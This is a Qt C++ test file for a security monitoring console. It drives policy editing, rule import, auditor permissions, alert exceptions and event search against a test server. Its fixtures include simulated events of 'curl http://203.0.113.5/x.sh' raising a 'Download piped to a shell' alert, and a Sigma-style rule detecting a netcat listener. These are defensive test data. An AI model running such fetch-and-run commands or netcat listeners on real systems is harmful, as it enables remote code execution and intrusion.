// The Policies and Events pages, the Dashboard's detection half and exceptions from the Alerts
// view, driven as a person does: offscreen, against a real in-process server.

#include "AlertsView.h"
#include "ConsoleTestSupport.h"
#include "DashboardDetection.h"
#include "DashboardView.h"
#include "EventsView.h"
#include "ExceptionsPanel.h"
#include "PoliciesView.h"
#include "PolicyEditor.h"
#include "RulesPanel.h"

#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QDialog>
#include <QLineEdit>
#include <QListWidget>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QSpinBox>
#include <QTableView>
#include <QTableWidget>
#include <QTemporaryDir>
#include <QTimer>
#include <QTreeWidget>

using namespace yagura;
using namespace yagura::console;
using namespace yagura::testing;

namespace {
void field(proto::TelemetryEvent& event, const std::string& name, const std::string& value) {
    auto* added = event.add_fields();
    added->set_name(name);
    added->set_value(value);
}

// Sends a batch as an enrolled agent; true once acknowledged.
bool sendBatch(TestSite& site, net::Context& context, const crypto::CurveKeyPair& keys,
               const proto::EventBatch& batch) {
    RawPeer peer(context, site.serverKey(), site.endpoints().agent.front(), {}, keys);
    auto envelope = protocol::unpack(peer.request(protocol::pack(proto::EVENT_BATCH, 3, batch)));
    proto::Ack ack;
    return envelope.ok() && ack.ParseFromString(envelope->payload()) &&
           ack.status() == proto::ACK_OK;
}

proto::EventBatch alertAndProcess(std::int64_t nowMs) {
    proto::EventBatch batch;
    for (int i = 1; i <= 5; ++i) {
        auto* event = batch.add_events();
        event->set_seq(static_cast<std::uint64_t>(i));
        event->set_time_unix_ms(static_cast<std::uint64_t>(nowMs - 1000 + i));
        event->set_category("process_creation");
        field(*event, "Image", "/usr/bin/curl");
        field(*event, "CommandLine", "curl http://203.0.113.5/x.sh " + std::to_string(i));
    }
    auto* alert = batch.add_events();
    alert->set_seq(6);
    alert->set_time_unix_ms(static_cast<std::uint64_t>(nowMs));
    alert->set_category("alert");
    alert->set_rank(proto::RANK_ALERT);
    field(*alert, "RuleId", "44444444-4444-4444-8444-444444444444");
    field(*alert, "RuleTitle", "Download piped to a shell");
    field(*alert, "RuleLevel", "high");
    field(*alert, "RuleTags", "attack.execution,attack.t1059.004");
    field(*alert, "Image", "/usr/bin/curl");
    return batch;
}

// Answers the next modal dialog with `answer`, once it is shown.
template <typename Answer> void whenDialogOpens(Answer answer) {
    QTimer::singleShot(0, [answer] {
        QDialog* dialog = nullptr;
        (void)QTest::qWaitFor(
            [&] {
                dialog = qobject_cast<QDialog*>(QApplication::activeModalWidget());
                return dialog != nullptr;
            },
            5000);
        if (dialog)
            answer(dialog);
    });
}
} // namespace

class TestPoliciesView : public QObject {
    Q_OBJECT

private slots:
    void initTestCase() {
        QCoreApplication::setOrganizationName(QStringLiteral("YaguraTest"));
        QCoreApplication::setApplicationName(QStringLiteral("PoliciesView"));
    }

    void anAdminEditsAPolicyAndSeesTheDiff() {
        TestSite site;
        ServerConnection connection;
        QVERIFY(logIn(connection, site));
        PoliciesView view(&connection);
        view.show();
        auto* editor = view.editor();
        QSignalSpy loaded(editor, &PolicyEditor::policyLoaded);
        view.refresh();
        QTRY_VERIFY_WITH_TIMEOUT(editor->loadedVersion() == 1, 10000);
        QCOMPARE(editor->selectedGroup(), QStringLiteral("default"));
        auto* retention = editor->findChild<QSpinBox*>(QStringLiteral("retention"));
        QCOMPARE(retention->value(), 30);
        auto* packs = editor->findChild<QListWidget*>(QStringLiteral("rulePacks"));
        QTRY_COMPARE_WITH_TIMEOUT(packs->count(), 1, 10000);
        QCOMPARE(packs->item(0)->checkState(), Qt::Checked);

        // A bad watched path is refused before anything is sent.
        auto* paths = editor->findChild<QPlainTextEdit*>(QStringLiteral("fimPaths"));
        paths->appendPlainText(QStringLiteral("relative/path"));
        QSignalSpy failed(editor, &PolicyEditor::failed);
        QTest::mouseClick(editor->findChild<QPushButton*>(QStringLiteral("savePolicy")),
                          Qt::LeftButton);
        QCOMPARE(failed.count(), 1);
        QVERIFY(failed.at(0).at(0).toString().contains(QStringLiteral("relative/path")));

        // A good edit: saved as version 2; the history shows what changed.
        paths->setPlainText(QStringLiteral("/etc/passwd\n/srv/plc"));
        retention->setValue(90);
        editor->findChild<QLineEdit*>(QStringLiteral("policyComment"))
            ->setText(QStringLiteral("plant audit asks for 90 days"));
        QSignalSpy saved(editor, &PolicyEditor::saved);
        QTest::mouseClick(editor->findChild<QPushButton*>(QStringLiteral("savePolicy")),
                          Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(saved.count(), 1, 10000);
        QCOMPARE(saved.at(0).at(0).toULongLong(), 2ull);
        auto* history = editor->findChild<QListWidget*>(QStringLiteral("policyHistory"));
        QTRY_COMPARE_WITH_TIMEOUT(history->count(), 2, 10000);
        QVERIFY(history->item(0)->text().contains(QStringLiteral("plant audit")));
        auto* diff = editor->findChild<QPlainTextEdit*>(QStringLiteral("policyDiff"));
        QTRY_VERIFY_WITH_TIMEOUT(
            diff->toPlainText().contains(QStringLiteral("\"retention_days\": 90")), 10000);
        QVERIFY(diff->toPlainText().contains(QStringLiteral("- ")));
        QVERIFY(diff->toPlainText().contains(QStringLiteral("/srv/plc")));
    }

    void rulesImportShowLoadStatusAndCanBeSwitchedOff() {
        TestSite site;
        ServerConnection connection;
        QVERIFY(logIn(connection, site));
        PoliciesView view(&connection);
        view.show();
        auto* rules = view.rules();
        QSignalSpy packsLoaded(rules, &RulesPanel::packsLoaded);
        view.refresh();
        QTRY_COMPARE_WITH_TIMEOUT(rules->packsTable()->rowCount(), 1, 10000);
        QCOMPARE(rules->packsTable()->item(0, 0)->text(), QStringLiteral("yagura-default"));

        QTemporaryDir folder;
        const auto write = [&](const QString& name, const QByteArray& text) {
            QFile file(folder.path() + "/" + name);
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write(text);
        };
        write(QStringLiteral("good.yml"),
              "title: Netcat listener\nid: 55555555-5555-4555-8555-555555555555\nlevel: medium\n"
              "logsource:\n  product: linux\n  category: process_creation\ndetection:\n"
              "  selection:\n    Image|endswith: '/nc'\n    CommandLine|contains: ' -l'\n"
              "  condition: selection\n");
        write(QStringLiteral("broken.yml"), "title: broken\ndetection: [oops\n");
        QSignalSpy finished(rules, &RulesPanel::importFinished);
        rules->importPath(folder.path(), QStringLiteral("site-local"));
        QTRY_COMPARE_WITH_TIMEOUT(finished.count(), 1, 10000);
        QVERIFY2(finished.at(0).at(0).toBool(), qPrintable(finished.at(0).at(1).toString()));
        QTRY_COMPARE_WITH_TIMEOUT(rules->packsTable()->rowCount(), 2, 10000);

        // The not-loaded rule says why.
        for (int row = 0; row < rules->packsTable()->rowCount(); ++row)
            if (rules->packsTable()->item(row, 0)->text() == QStringLiteral("site-local"))
                rules->packsTable()->selectRow(row);
        QSignalSpy rulesLoaded(rules, &RulesPanel::rulesLoaded);
        rules->setStatusFilter(QStringLiteral("unsupported"));
        QTRY_VERIFY_WITH_TIMEOUT(rules->rulesTable()->rowCount() == 1 &&
                                     rules->rulesTable()->item(0, 4)->text() ==
                                         QStringLiteral("broken.yml"),
                                 10000);
        QVERIFY(!rules->rulesTable()->item(0, 5)->text().isEmpty());

        rules->setStatusFilter(QStringLiteral("loaded"));
        QTRY_VERIFY_WITH_TIMEOUT(rules->rulesTable()->rowCount() == 1 &&
                                     rules->rulesTable()->item(0, 4)->text() ==
                                         QStringLiteral("good.yml"),
                                 10000);
        rules->rulesTable()->selectRow(0);
        QSignalSpy changed(rules, &RulesPanel::rulesChanged);
        QTest::mouseClick(rules->findChild<QPushButton*>(QStringLiteral("disableRules")),
                          Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(changed.count(), 1, 10000);
        QTRY_VERIFY_WITH_TIMEOUT(rules->rulesTable()->rowCount() == 1 &&
                                     rules->rulesTable()->item(0, 0)->text() ==
                                         QStringLiteral("off"),
                                 10000);
    }

    void anAuditorSeesPoliciesButCannotChangeThem() {
        TestSite site;
        site.addUser("auditor1", server::Role::Auditor);
        ServerConnection connection;
        QVERIFY(logIn(connection, site, QStringLiteral("auditor1"),
                      QStringLiteral("password-auditor1")));
        PoliciesView view(&connection);
        view.show();
        view.refresh();
        QTRY_VERIFY_WITH_TIMEOUT(view.editor()->loadedVersion() == 1, 10000);
        QVERIFY(!view.editor()->findChild<QPushButton*>(QStringLiteral("savePolicy"))->isEnabled());
        QVERIFY(!view.rules()->findChild<QPushButton*>(QStringLiteral("importRules"))->isEnabled());
        QVERIFY(!view.exceptions()
                     ->findChild<QPushButton*>(QStringLiteral("revokeException"))
                     ->isEnabled());
    }

    void aFalsePositiveBecomesAnExceptionAndTheDashboardCountsIt() {
        TestSite site;
        net::Context context;
        auto [agentId, keys] = site.enrolKeys(context, "hmi-7");
        auto batch = alertAndProcess(site.clock().nowUnixMillis());
        // The agent's spool was full while offline: it reports what it had to drop.
        auto* dropped = batch.add_dropped();
        dropped->set_first_seq(100);
        dropped->set_last_seq(1299);
        dropped->set_count(1200);
        dropped->set_rank(proto::RANK_TELEMETRY);
        QVERIFY(sendBatch(site, context, keys, batch));
        ServerConnection connection;
        QVERIFY(logIn(connection, site));

        DashboardView dashboard(&connection);
        dashboard.show();
        QSignalSpy refreshed(&dashboard, &DashboardView::refreshed);
        dashboard.refresh();
        QTRY_COMPARE_WITH_TIMEOUT(refreshed.count(), 1, 10000);
        QCOMPARE(dashboard.detection()->chartedAlerts(), 1);
        QCOMPARE(dashboard.detection()->table(QStringLiteral("topRules"))->item(0, 0)->text(),
                 QStringLiteral("Download piped to a shell"));
        QCOMPARE(dashboard.detection()->table(QStringLiteral("topHosts"))->item(0, 0)->text(),
                 QStringLiteral("hmi-7"));
        auto* backlog = dashboard.detection()->table(QStringLiteral("backlog"));
        QCOMPARE(backlog->rowCount(), 1);
        QCOMPARE(backlog->item(0, 0)->text(), QStringLiteral("hmi-7"));
        QCOMPARE(backlog->item(0, 3)->text(), QLocale().toString(1200));

        AlertsView alerts(&connection);
        alerts.show();
        alerts.refresh();
        auto* table = alerts.findChild<QTableView*>(QStringLiteral("alertsTable"));
        QVERIFY(table);
        QTRY_COMPARE_WITH_TIMEOUT(table->model()->rowCount(), 1, 10000);
        // The severity filter: a high alert is not critical, but it is high and above.
        auto* level = alerts.findChild<QComboBox*>(QStringLiteral("alertLevelFilter"));
        level->setCurrentIndex(1); // critical
        QTRY_COMPARE_WITH_TIMEOUT(table->model()->rowCount(), 0, 10000);
        level->setCurrentIndex(2); // high and above
        QTRY_COMPARE_WITH_TIMEOUT(table->model()->rowCount(), 1, 10000);
        auto* tag = alerts.findChild<QLineEdit*>(QStringLiteral("alertTag"));
        tag->setText(QStringLiteral("attack.t1059.004"));
        QTest::keyClick(tag, Qt::Key_Return);
        QTRY_COMPARE_WITH_TIMEOUT(table->model()->rowCount(), 1, 10000);
        table->selectRow(0);
        auto* button = alerts.findChild<QPushButton*>(QStringLiteral("exceptionButton"));
        QTRY_VERIFY_WITH_TIMEOUT(button->isEnabled(), 10000);
        whenDialogOpens([](QDialog* dialog) {
            auto* scope = dialog->findChild<QComboBox*>(QStringLiteral("exceptionScope"));
            scope->setCurrentIndex(scope->findData(QStringLiteral("group")));
            dialog->findChild<QLineEdit*>(QStringLiteral("exceptionReason"))
                ->setText(QStringLiteral("the historian's nightly download"));
            QTest::mouseClick(dialog->findChild<QPushButton*>(QStringLiteral("createException")),
                              Qt::LeftButton);
        });
        QSignalSpy created(&alerts, &AlertsView::exceptionCreated);
        QTest::mouseClick(button, Qt::LeftButton);
        QTRY_COMPARE_WITH_TIMEOUT(created.count(), 1, 10000);

        ExceptionsPanel exceptions(&connection);
        QSignalSpy loaded(&exceptions, &ExceptionsPanel::loaded);
        exceptions.refresh();
        QTRY_COMPARE_WITH_TIMEOUT(loaded.count(), 1, 10000);
        QCOMPARE(exceptions.table()->rowCount(), 1);
        QCOMPARE(exceptions.table()->item(0, 1)->text(), QStringLiteral("group default"));
        QCOMPARE(exceptions.table()->item(0, 2)->text(), QStringLiteral("/usr/bin/curl"));
        QCOMPARE(exceptions.table()->item(0, 6)->text(),
                 QStringLiteral("the historian's nightly download"));
        exceptions.table()->selectRow(0);
        loaded.clear();
        exceptions.revokeSelected(QStringLiteral("historian replaced"));
        QTRY_VERIFY_WITH_TIMEOUT(loaded.count() > 0 && exceptions.table()->rowCount() == 0, 10000);
    }

    void eventSearchFindsAHostsEventsInARange() {
        TestSite site;
        net::Context context;
        auto [agentId, keys] = site.enrolKeys(context, "eng-ws");
        const std::int64_t nowMs = site.clock().nowUnixMillis();
        QVERIFY(sendBatch(site, context, keys, alertAndProcess(nowMs)));
        ServerConnection connection;
        QVERIFY(logIn(connection, site));
        EventsView view(&connection);
        view.show();
        QSignalSpy hosts(&view, &EventsView::hostsLoaded);
        view.refresh();
        QTRY_COMPARE_WITH_TIMEOUT(hosts.count(), 1, 10000);
        QSignalSpy searched(&view, &EventsView::searched);
        const QDateTime now = QDateTime::fromMSecsSinceEpoch(nowMs);
        view.searchHost(static_cast<quint64>(agentId), now.addSecs(-60), now.addSecs(60),
                        QStringLiteral("process_creation"));
        QTRY_COMPARE_WITH_TIMEOUT(searched.count(), 1, 10000);
        QCOMPARE(view.results()->rowCount(), 5);
        QVERIFY(view.results()->item(0, 3)->text().contains(QStringLiteral("/usr/bin/curl")));
        view.results()->selectRow(2);
        QVERIFY(
            !view.detail()->findItems(QStringLiteral("CommandLine"), Qt::MatchExactly).isEmpty());
        // With a text filter only the matching event; outside the range nothing.
        view.searchHost(static_cast<quint64>(agentId), now.addSecs(-60), now.addSecs(60), {},
                        QStringLiteral("x.sh 3"));
        QTRY_COMPARE_WITH_TIMEOUT(searched.count(), 2, 10000);
        QCOMPARE(view.results()->rowCount(), 1);
        // A field's name is not its value.
        view.searchHost(static_cast<quint64>(agentId), now.addSecs(-60), now.addSecs(60), {},
                        QStringLiteral("CommandLine"));
        QTRY_COMPARE_WITH_TIMEOUT(searched.count(), 3, 10000);
        QCOMPARE(view.results()->rowCount(), 0);
        view.searchHost(static_cast<quint64>(agentId), now.addSecs(-7200), now.addSecs(-3600));
        QTRY_COMPARE_WITH_TIMEOUT(searched.count(), 4, 10000);
        QCOMPARE(view.results()->rowCount(), 0);
    }
};

QTEST_MAIN(TestPoliciesView)
#include "TestPoliciesView.moc"
